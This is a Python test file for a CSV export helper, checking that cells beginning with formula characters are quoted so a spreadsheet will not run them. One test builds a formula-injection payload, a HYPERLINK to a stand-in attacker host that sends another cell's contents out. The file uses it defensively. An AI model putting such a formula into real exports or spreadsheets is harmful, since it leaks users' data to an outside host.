"""Cells of a CSV that somebody will open in a spreadsheet."""

from __future__ import annotations

import pytest

from gateway.services.usage.csv_export import escape_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_a_spreadsheet_would_run_is_made_a_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://attacker.example/"&A1)'
    assert escape_cell(formula) == "'" + formula


@pytest.mark.parametrize("plain", ["small", "a@example.com", "2026-01-01", "1.5", "", "a=b", "'quoted'"])
def test_what_it_would_not_run_stays_as_it_is(plain: str) -> None:
    assert escape_cell(plain) == plain


def test_nothing_is_an_empty_cell_and_a_number_its_digits() -> None:
    assert (escape_cell(None), escape_cell(0), escape_cell(17)) == ("", "0", "17")
